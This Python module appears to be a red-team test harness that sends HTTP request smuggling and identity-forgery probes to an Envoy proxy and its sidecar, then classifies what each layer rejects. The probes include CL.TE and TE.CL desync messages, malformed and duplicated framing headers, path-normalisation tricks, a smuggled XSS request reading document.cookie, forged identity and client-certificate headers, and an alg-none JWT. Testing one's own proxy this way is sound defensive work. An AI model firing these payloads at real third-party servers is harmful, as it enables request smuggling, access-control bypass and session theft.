"""Header smuggling attempts over raw sockets, for a real Envoy: what does Envoy itself reject (400,
or a closed connection), and what reaches the sidecar (denied by it, or let through)?

Each probe is one HTTP/1.1 message with an ambiguity an attacker uses to make two parsers disagree
about where a request ends or what its headers are: Content-Length against Transfer-Encoding,
obfuscated or repeated framing headers, obs-fold continuation lines, duplicate Host, bare LF,
NUL and bare CR in headers. Where the message can be read two ways, the second reading smuggles
a request carrying an XSS payload. Given a path the access layer protects, identity probes send
no credential but identity that Envoy or the sidecar would otherwise vouch for (the headers the
sidecar sets, a client certificate header, device posture, an unsigned token): each must be refused. More responses than requests sent means Envoy read the
smuggled request as a request of its own: a desync, even when the sidecar then denied it.
Every socket has a timeout and every probe a deadline: a probe never hangs.
"""
from __future__ import annotations

import re
import socket
import time
from dataclasses import dataclass

from extproc_lab.redteam.replay import classify

PAYLOAD = "%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E"
SMUGGLED = f"GET /search?q={PAYLOAD} HTTP/1.1\r\nHost: shop.example\r\n\r\n"
STATUS_LINE = re.compile(rb"(?:\A|\r\n)HTTP/1\.[01] (\d{3}) ")
QUIET_S = 0.3
ENVOY, SIDECAR_DENIED, PASSED, NO_ANSWER = "rejected by Envoy", "denied by sidecar", "passed", "no answer"


@dataclass(frozen=True)
class SmugglingProbe:
    name: str
    description: str
    raw: bytes


def _head(*lines: str, method: str = "POST", target: str = "/search") -> str:
    return f"{method} {target} HTTP/1.1\r\n" + "".join(f"{line}\r\n" for line in lines) + "\r\n"


def _probes() -> tuple[SmugglingProbe, ...]:
    chunked_then_smuggled = "0\r\n\r\n" + SMUGGLED
    smuggled_chunk = f"{len(SMUGGLED):x}\r\n{SMUGGLED}\r\n0\r\n\r\n"
    host = "Host: shop.example"
    return (
        SmugglingProbe("cl-te", "Content-Length and Transfer-Encoding: chunked together (CL.TE)",
                       (_head(host, f"Content-Length: {len(chunked_then_smuggled)}", "Transfer-Encoding: chunked")
                        + chunked_then_smuggled).encode()),
        SmugglingProbe("te-cl", "Transfer-Encoding: chunked, then a short Content-Length (TE.CL)",
                       (_head(host, "Transfer-Encoding: chunked", "Content-Length: 4") + smuggled_chunk).encode()),
        SmugglingProbe("te-space-before-colon", "'Transfer-Encoding : chunked' (space before the colon)",
                       (_head(host, f"Content-Length: {len(chunked_then_smuggled)}", "Transfer-Encoding : chunked")
                        + chunked_then_smuggled).encode()),
        SmugglingProbe("te-obfuscated", "'Transfer-Encoding: xchunked' next to a Content-Length",
                       (_head(host, f"Content-Length: {len(chunked_then_smuggled)}", "Transfer-Encoding: xchunked")
                        + chunked_then_smuggled).encode()),
        SmugglingProbe("te-duplicate", "two Transfer-Encoding headers: chunked and identity",
                       (_head(host, "Transfer-Encoding: chunked", "Transfer-Encoding: identity")
                        + chunked_then_smuggled).encode()),
        SmugglingProbe("cl-duplicate", "two different Content-Length values",
                       (_head(host, "Content-Length: 0", f"Content-Length: {len(SMUGGLED)}") + SMUGGLED).encode()),
        SmugglingProbe("obs-fold", "a header continued on an obs-fold line carrying the payload",
                       _head(host, "X-Note: harmless", f" {PAYLOAD}", "Content-Length: 0").encode()),
        SmugglingProbe("duplicate-host", "two Host headers",
                       _head(host, "Host: internal.example", "Content-Length: 0", method="GET").encode()),
        SmugglingProbe("absolute-uri-host-mismatch", "an absolute request target naming another host",
                       _head(host, "Content-Length: 0", method="GET",
                             target="http://internal.example/admin").encode()),
        SmugglingProbe("bare-lf", "lines ended by LF only",
                       _head(host, "Content-Length: 0", method="GET").replace("\r\n", "\n").encode()),
        SmugglingProbe("nul-in-header", "a NUL byte inside a header value",
                       _head(host, "X-Note: a\x00b", "Content-Length: 0", method="GET").encode()),
        SmugglingProbe("bare-cr-in-header", "a bare CR inside a header value",
                       _head(host, "X-Note: a\rTransfer-Encoding: chunked", "Content-Length: 0", method="GET").encode()),
        SmugglingProbe("space-in-header-name", "a space inside a header name ('Content Length')",
                       (_head(host, f"Content Length: {len(SMUGGLED)}", "Content-Length: 0") + SMUGGLED).encode()),
        SmugglingProbe("chunk-size-overflow", "a chunk size larger than 64 bits",
                       (_head(host, "Transfer-Encoding: chunked") + "10000000000000000a\r\nhello\r\n0\r\n\r\n").encode()),
        *_spelling_probes(host),
    )


def _spelling_probes(host: str) -> tuple[SmugglingProbe, ...]:
    """Spellings that Envoy and the application read differently: a header name with '_' that
    servers fold into '-', and paths that steer Envoy's routing (around the sidecar, or onto a
    route with another policy) while the application reads the path of the payload."""
    forged = "X_Extproc_User_Email: admin@corp.example"
    paths = (("path-static-dot-segment", "/static/%2e%2e;/search"), ("path-static-case", "/STATIC/search"),
             ("path-parameter-dot-segment", "/x/..;/search"), ("path-backslash", "/static/..%5csearch"))
    return (
        SmugglingProbe("underscore-header", "a header name with '_' forging one the sidecar sets",
                       _head(host, forged, "Content-Length: 0", method="GET", target=f"/search?q={PAYLOAD}").encode()),
        *(SmugglingProbe(name, f"the payload under the path {path}",
                         _head(host, "Content-Length: 0", method="GET", target=f"{path}?q={PAYLOAD}").encode())
          for name, path in paths),
    )


PROBES = _probes()
BILLING_SAN = "spiffe://mesh.example/ns/billing/sa/api"


def identity_probes(protected_path: str, host: str = "shop.example") -> tuple[SmugglingProbe, ...]:
    """Requests for a path the access layer protects, carrying no credential but identity the sidecar
    or Envoy would otherwise vouch for: each must be refused (401/403 by the sidecar, or 400 by Envoy)."""
    fake_jwt = "eyJhbGciOiJub25lIn0.eyJzdWIiOiJhZG1pbiJ9."
    forged_cert = (f'By=spiffe://mesh.example/ns/edge/sa/envoy;Hash=00;Subject="CN=x\\";URI={BILLING_SAN}";'
                   f"URI={BILLING_SAN}")
    cases = (
        ("sidecar-headers", "the headers the sidecar sends upstream, set by the client",
         ("X-Extproc-User-Email: admin@corp.example", "X-Extproc-User-Id: admin", "X-Extproc-Access-App: admin",
          "X-Extproc-User-Groups: admins", f"X-Extproc-Assertion: {fake_jwt}")),
        ("underscore-identity-header", "X_Extproc_User_Email, which servers fold into the header the sidecar sets",
         ("X_Extproc_User_Email: admin@corp.example",)),
        ("client-xfcc", "a client certificate header (XFCC) naming another workload, escaped quote included",
         (f"X-Forwarded-Client-Cert: {forged_cert}",)),
        ("device-posture", "a device-posture header from an untrusted client", ("X-Device-Posture: managed",)),
        ("bearer-alg-none", "a bearer token with alg none", (f"Authorization: Bearer {fake_jwt}",)),
        ("half-service-token", "a service-token client id without its secret", ("X-Access-Client-Id: admin.access",)),
    )
    return tuple(SmugglingProbe(f"identity-{name}", description,
                                _head(f"Host: {host}", *lines, "Content-Length: 0", method="GET",
                                      target=protected_path).encode())
                 for name, description, lines in cases)


def run_probe(host: str, port: int, probe: SmugglingProbe, timeout: float = 2.0, deadline_s: float = 4.0) -> dict:
    """Send the probe and read what comes back until the connection closes, the deadline passes, or
    it goes quiet: for `timeout` before the first byte, for QUIET_S after (a smuggled request's
    answer follows the first one at once; waiting longer would only wait for keep-alive)."""
    end = time.monotonic() + deadline_s
    try:
        with socket.create_connection((host, port), timeout=timeout) as sock:
            sock.sendall(probe.raw)
            data = _read(sock, end)
    except OSError as exc:
        return {"name": probe.name, "description": probe.description, "verdict": NO_ANSWER, "note": repr(exc)}
    statuses = [int(s) for s in STATUS_LINE.findall(data)]
    row = {"name": probe.name, "description": probe.description, "responses": len(statuses),
           "statuses": statuses, "status": statuses[0] if statuses else None, "verdict": _verdict(data, statuses)}
    if len(statuses) > 1:
        row["note"] = "desync: Envoy answered the smuggled request as a second request"
    return row


def _read(sock: socket.socket, end: float) -> bytes:
    chunks = []
    while time.monotonic() < end:
        try:
            chunk = sock.recv(65536)
        except socket.timeout:
            break
        if not chunk:
            break
        chunks.append(chunk)
        sock.settimeout(QUIET_S)
    return b"".join(chunks)


def _verdict(data: bytes, statuses: list[int]) -> str:
    if not statuses:
        return ENVOY if not data else NO_ANSWER  # closed without a word: Envoy refused to parse it
    result = classify(statuses[0], _first_body(data), b"x-envoy-upstream-service-time" in data.lower())
    return {"allowed": PASSED, "blocked": SIDECAR_DENIED}.get(result, ENVOY)  # 400, 501: Envoy's own


def _first_body(data: bytes) -> bytes:
    head, _, rest = data.partition(b"\r\n\r\n")
    length = re.search(rb"\r\ncontent-length:\s*(\d+)", head, re.I)
    return rest[:int(length[1])] if length else rest


def run_all(host: str, port: int, timeout: float = 2.0, protected_path: str | None = None) -> list[dict]:
    probes = PROBES + (identity_probes(protected_path) if protected_path else ())
    return [run_probe(host, port, probe, timeout) for probe in probes]


def summarize(rows: list[dict]) -> dict:
    counts: dict[str, int] = {}
    for row in rows:
        counts[row["verdict"]] = counts.get(row["verdict"], 0) + 1
    return {"probes": len(rows), "verdicts": counts, "desyncs": [r["name"] for r in rows if r.get("responses", 0) > 1],
            "identity_bypasses": identity_bypasses(rows)}


def identity_bypasses(rows: list[dict]) -> list[str]:
    """Identity probes the app answered (a forged identity was believed, or none was needed), and a
    direct ext_proc call the sidecar answered."""
    return [r["name"] for r in rows if (r["name"].startswith("identity-") and r["verdict"] == PASSED)
            or (r["name"] == "direct-ext-proc" and r["verdict"] == "answered")]
